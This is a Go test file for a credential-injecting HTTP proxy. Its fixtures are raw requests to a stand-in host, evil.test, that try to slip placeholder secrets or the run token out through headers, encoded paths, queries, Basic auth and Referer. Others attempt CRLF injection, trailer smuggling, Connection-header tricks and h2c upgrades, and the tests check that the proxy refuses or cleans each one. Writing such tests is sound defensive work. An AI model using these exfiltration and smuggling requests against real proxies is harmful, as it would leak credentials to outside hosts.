package proxy

import (
	"encoding/base64"
	"testing"
)

// TestAttackCredential puts what stands for a secret where it does not belong,
// and takes what belongs there away.
func TestAttackCredential(t *testing.T) { newArena(t).attacks(t, credentialAttacks()) }

func credentialAttacks() []attack {
	const (
		api   = "api.test:443"
		evil  = "evil.test:443"
		get   = "GET / HTTP/1.1\r\nHost: evil.test\r\n"
		own   = "GET /x HTTP/1.1\r\nHost: api.test\r\n"
		clean = "https://api.test:443 GET /x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer real-api\r\n\r\n"
	)
	inBasic := func(text string) string { return base64.StdEncoding.EncodeToString([]byte("user:" + text)) }
	return []attack{
		{name: "a placeholder of another host in Authorization", to: evil, raw: get + "Authorization: Bearer PLACEHOLDER\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in Basic", to: evil, raw: get + "Authorization: Basic " + inBasic("PLACEHOLDER") + "\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in a second Authorization", to: evil, raw: get + "Authorization: x\r\nAuthorization: PLACEHOLDER\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in Cookie", to: evil, raw: get + "Cookie: a=PLACEHOLDER\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in a header that is hop-by-hop", to: evil, raw: get + "Connection: X-Key\r\nX-Key: PLACEHOLDER\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in the path", to: evil, raw: "GET /botPLACEHOLDER HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in the path, escaped", to: evil, raw: "GET /bot%50LACEHOLDE%52 HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder of another host in the query", to: evil, raw: "GET /?a;k=PLACE%48OLDER HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a stub of another host", to: evil, raw: get + "X-Key: moat-stub-mcp\r\n\r\n", status: 403, reason: "placeholder"},
		{name: "a placeholder with control characters around it in the path of its host", to: "sub.test:443", raw: "GET /%0d%0aX:PLACEHOLDER HTTP/1.1\r\nHost: sub.test\r\n\r\n", status: 200, reads: "https://sub.test:443 GET /%0d%0aX:real-sub HTTP/1.1\r\nHost: sub.test\r\n\r\n"},
		{name: "a placeholder in Basic with control characters around it", to: "sub.test:443", raw: "GET / HTTP/1.1\r\nHost: sub.test\r\nAuthorization: Basic " + inBasic("\r\nX: PLACEHOLDER") + "\r\n\r\n", status: 200, reads: "https://sub.test:443 GET / HTTP/1.1\r\nHost: sub.test\r\nAuthorization: Basic " + inBasic("\r\nX: real-sub") + "\r\n\r\n"},
		{name: "a placeholder in a header that carries none", to: "sub.test:443", raw: "GET / HTTP/1.1\r\nHost: sub.test\r\nX-Echo: PLACEHOLDER\r\n\r\n", status: 200, reads: "https://sub.test:443 GET / HTTP/1.1\r\nHost: sub.test\r\nX-Echo: PLACEHOLDER\r\n\r\n"},

		{name: "Connection names the injected header", to: api, raw: own + "Connection: Authorization\r\n\r\n", status: 200, reads: clean},
		{name: "Connection names it in other letters, in a list", to: api, raw: own + "Connection: keep-alive, aUTHORIZATION\r\nAuthorization: mine\r\n\r\n", status: 200, reads: clean},
		{name: "Connection names Host", to: api, raw: own + "Connection: Host\r\n\r\n", status: 200, reads: clean},
		{name: "Connection names Content-Length", to: api, raw: "POST /x HTTP/1.1\r\nHost: api.test\r\nConnection: Content-Length\r\nContent-Length: 1\r\n\r\na", status: 200, reads: "https://api.test:443 POST /x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\nAuthorization: Bearer real-api\r\n\r\na"},
		{name: "the agent's own value", to: api, raw: own + "Authorization: mine\r\nauthorization: too\r\n\r\n", status: 200, reads: clean},
		{name: "the agent's own value with an underscore is another header", to: api, raw: own + "X_Authorization: mine\r\n\r\n", status: 200, reads: "https://api.test:443 GET /x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer real-api\r\nX_authorization: mine\r\n\r\n"},
		{name: "Authorization as a trailer", to: api, raw: "POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n0\r\nAuthorization: mine\r\n\r\n", status: 200, reads: "https://api.test:443 POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nAuthorization: Bearer real-api\r\n\r\n0\r\n\r\n"},
		{name: "a trailer that frames", to: api, raw: "POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n0\r\nContent-Length: 1\r\n\r\n", status: 400},
		{name: "a trailer that was not announced", to: api, raw: "POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: evil.test\r\nX: y\r\n\r\n", status: 200, reads: "https://api.test:443 POST /x HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nAuthorization: Bearer real-api\r\n\r\n0\r\n\r\n"},
		{name: "headers for the proxy inside the tunnel", to: api, raw: own + "Proxy-Authorization: Bearer x\r\nProxy-Connection: close\r\nProxy-Authenticate: x\r\n\r\n", status: 200, reads: clean},
		{name: "the token in Proxy-Authorization inside the tunnel", to: evil, raw: "GET /x HTTP/1.1\r\nHost: evil.test\r\nAUTH\r\n", status: 200, reads: "https://evil.test:443 GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n"},
		{name: "an upgrade to h2c", to: api, raw: own + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", status: 200, reads: clean},
		{name: "an upgrade to TLS", to: api, raw: own + "Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n", status: 200, reads: clean},
		{name: "an upgrade to h2c among others", to: api, raw: own + "Connection: Upgrade\r\nUpgrade: websocket, H2C\r\n\r\n", status: 200, reads: clean},
		{name: "an upgrade that the upstream refuses", to: api, raw: own + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", status: 200, reads: "https://api.test:443 GET /x HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer real-api\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"},
	}
}

// TestAttackToken puts the token of the run where an upstream would read it.
func TestAttackToken(t *testing.T) {
	const (
		evil = "evil.test:443"
		get  = "GET / HTTP/1.1\r\nHost: evil.test\r\n"
	)
	newArena(t).attacks(t, []attack{
		{name: "in the path", to: evil, raw: "GET /x/TOKEN HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the path of a relay at another host", to: evil, raw: "GET /mcp/TOKEN/mcp HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the path, a letter escaped", to: evil, raw: "GET /9f3%631b7e5a2d4860b1c9e7f35d2a8b64 HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the query", to: evil, raw: "GET /?k=TOKEN HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in a query that cannot be parsed", to: evil, raw: "GET /?%zz;k=9f3%631b7e5a2d4860b1c9e7f35d2a8b64 HTTP/1.1\r\nHost: evil.test\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in a header", to: evil, raw: get + "X-Key: a TOKEN b\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in Authorization, Bearer", to: evil, raw: get + "Authorization: Bearer TOKEN\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in Authorization, Basic", to: evil, raw: get + "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("moat:"+attackToken)) + "\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the name of a header", to: evil, raw: get + "X-TOKEN: 1\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the address of the proxy, in Referer", to: evil, raw: get + "Referer: http://moat:TOKEN@127.0.0.1/\r\n\r\n", status: 403, reason: "proxy-token"},
		{name: "in the Host", to: evil, raw: "GET / HTTP/1.1\r\nHost: TOKEN.evil.test\r\n\r\n", status: 421, reason: "misdirected"},
		{name: "in the host of the URL", raw: "GET http://TOKEN.evil.test/ HTTP/1.1\r\nHost: x\r\nAUTH\r\n", status: 403, reason: "proxy-token"},
		{name: "in a header on the proxy's port", raw: "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nX: TOKEN\r\nAUTH\r\n", status: 403, reason: "proxy-token"},
		{name: "as a Bearer for the credentials of a role, at another host", raw: "GET http://evil.test/_aws/credentials HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer TOKEN\r\nAUTH\r\n", status: 404, reason: "aws-role"},
	})
}
